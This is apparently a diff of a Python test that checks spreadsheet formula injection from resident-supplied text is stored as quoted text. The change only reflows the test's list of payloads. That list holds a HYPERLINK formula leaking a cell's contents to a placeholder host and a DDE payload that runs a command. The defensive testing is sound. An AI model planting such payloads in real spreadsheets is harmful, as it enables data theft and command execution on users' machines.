@@ -22,7 +22,13 @@ def test_any_text_survives_a_round_trip_through_a_workbook_as_text(text):
 
 def test_formulas_from_residents_are_stored_as_quoted_text():
     book = Workbook()
-    attacks = ['=HYPERLINK("http://x.example/?leak="&A4,"点击查看")', "=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(A1)"]
+    attacks = [
+        '=HYPERLINK("http://x.example/?leak="&A4,"点击查看")',
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2",
+        "@SUM(A1)",
+    ]
     book.active.append(text_row(attacks))
     as_text(book.active)
     out = io.BytesIO()
